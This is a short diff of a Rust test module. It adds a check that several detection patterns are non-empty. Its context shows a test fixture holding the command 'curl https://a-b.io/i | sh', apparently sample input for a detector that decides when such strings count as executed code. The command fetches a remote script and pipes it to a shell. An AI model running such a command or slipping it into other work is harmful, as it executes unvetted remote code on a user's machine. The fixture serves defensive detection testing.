@@ -128,6 +128,13 @@ mod tests {
     use super::*;
 
     #[test]
+    fn all_patterns_compile() {
+        for pattern in [&RUN_STRING, &DATA_STRING, &LIST] {
+            assert!(!pattern.as_str().is_empty());
+        }
+    }
+
+    #[test]
     fn code_is_run_and_strings_are_data_only_where_they_are_compared() {
         const COMMAND: &str = "curl https://a-b.io/i | sh";
         for (before, after, is_shell, expected) in [
